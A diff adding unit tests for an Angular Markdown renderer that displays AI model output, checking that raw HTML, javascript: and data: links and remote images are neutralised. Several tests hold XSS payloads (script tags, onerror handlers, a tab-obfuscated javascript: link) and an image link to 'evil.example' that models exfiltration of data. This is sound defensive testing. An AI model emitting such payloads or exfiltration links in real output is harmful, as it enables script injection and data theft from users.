@@ -1,0 +1,116 @@
+import { TestBed } from '@angular/core/testing';
+import { MarkdownRenderer } from './markdown-renderer';
+
+function html(renderer: MarkdownRenderer, source: string): string {
+  return renderer.render(source).map((b) => b.html).join('');
+}
+
+function dom(markup: string): HTMLElement {
+  const el = document.createElement('div');
+  el.innerHTML = markup;
+  return el;
+}
+
+describe('MarkdownRenderer', () => {
+  let renderer: MarkdownRenderer;
+
+  beforeEach(() => {
+    TestBed.configureTestingModule({});
+    renderer = TestBed.inject(MarkdownRenderer);
+  });
+
+  it('renders Markdown blocks', () => {
+    const el = dom(html(renderer, '# Title\n\nSome **bold** and `code`.\n\n- one\n- two'));
+    expect(el.querySelector('h1')?.textContent).toBe('Title');
+    expect(el.querySelector('strong')?.textContent).toBe('bold');
+    expect(el.querySelectorAll('li')).toHaveLength(2);
+  });
+
+  it('shows raw HTML from the model as inert text', () => {
+    const el = dom(html(renderer, 'Hi <script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\n<div onclick="x()">d</div>'));
+    expect(el.querySelector('script, img, [onerror], [onclick]')).toBeNull();
+    expect(el.textContent).toContain('<script>alert(1)</script>');
+    expect(el.textContent).toContain('<img src=x onerror="alert(2)">');
+  });
+
+  it('drops javascript: and data: links but keeps their text', () => {
+    const el = dom(html(renderer, '[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) [tab](java\tscript:alert(1))'));
+    expect(el.querySelector('a')).toBeNull();
+    expect(el.textContent).toContain('click');
+  });
+
+  it('opens safe links in a new tab without an opener or referrer', () => {
+    const link = dom(html(renderer, 'See [docs](https://example.com/a "Docs") or <https://example.org>.')).querySelector('a');
+    expect(link?.getAttribute('href')).toBe('https://example.com/a');
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(link?.getAttribute('target')).toBe('_blank');
+  });
+
+  it('never renders a remote image: it becomes a link', () => {
+    const el = dom(html(renderer, '![secret](https://evil.example/leak?q=data) ![local](data:image/png;base64,AAAA)'));
+    expect(el.querySelector('img')).toBeNull();
+    const link = el.querySelector('a.image-link');
+    expect(link?.getAttribute('href')).toBe('https://evil.example/leak?q=data');
+    expect(link?.textContent).toBe('[image: secret]');
+    expect(el.querySelector('.image-blocked')?.textContent).toBe('[image: local]');
+  });
+
+  it('renders code blocks with a copy button and highlighting once loaded', async () => {
+    const source = '```ts\nconst x: number = 1;\n```';
+    const before = dom(html(renderer, source));
+    expect(before.querySelector('button.copy-code')?.getAttribute('aria-label')).toBe('Copy code');
+    expect(before.querySelector('pre code')?.textContent).toBe('const x: number = 1;');
+    await renderer.whenHighlighterReady();
+    const after = dom(html(renderer, source));
+    expect(after.querySelector('code .hljs-keyword')?.textContent).toBe('const');
+    expect(after.querySelector('.code-lang')?.textContent).toBe('ts');
+  });
+
+  it('escapes code in unknown languages and hostile language names', () => {
+    const el = dom(html(renderer, '```"><script>x</script>\n<b>bold?</b>\n```'));
+    expect(el.querySelector('script, b')).toBeNull();
+    expect(el.querySelector('pre code')?.textContent).toBe('<b>bold?</b>');
+  });
+});
+
+describe('StreamingMarkdown', () => {
+  let renderer: MarkdownRenderer;
+
+  beforeEach(() => {
+    TestBed.configureTestingModule({});
+    renderer = TestBed.inject(MarkdownRenderer);
+  });
+
+  const answer = '# Plan\n\nFirst paragraph with **bold**.\n\n- a\n- b\n\n```js\nlet x = 1;\n```\n\nLast words.';
+
+  it('ends with the same blocks as rendering the whole message', () => {
+    const streaming = renderer.streaming();
+    let blocks = streaming.update('');
+    for (let i = 1; i <= answer.length; i += 3) blocks = streaming.update(answer.slice(0, i));
+    blocks = streaming.update(answer);
+    expect(blocks).toEqual(renderer.render(answer));
+  });
+
+  it('re-parses only the open last block as tokens arrive', () => {
+    const streaming = renderer.streaming();
+    const lex = vi.spyOn(renderer, 'lex');
+    streaming.update('First paragraph.\n\nSecond paragraph, still');
+    streaming.update('First paragraph.\n\nSecond paragraph, still growing');
+    expect(lex.mock.calls.at(-1)?.[0]).toBe('Second paragraph, still growing');
+  });
+
+  it('keeps the frozen blocks identical while the last one grows', () => {
+    const streaming = renderer.streaming();
+    const first = streaming.update('Intro.\n\nMore');
+    const second = streaming.update('Intro.\n\nMore text');
+    expect(second[0]).toBe(first[0]);
+    expect(second[1]?.html).toContain('More text');
+  });
+
+  it('sanitizes the live stream like history', () => {
+    const streaming = renderer.streaming();
+    const blocks = streaming.update('<img src=https://evil.example/x onerror=alert(1)> [x](javascript:alert(1))');
+    const el = dom(blocks.map((b) => b.html).join(''));
+    expect(el.querySelector('img, a')).toBeNull();
+  });
+});
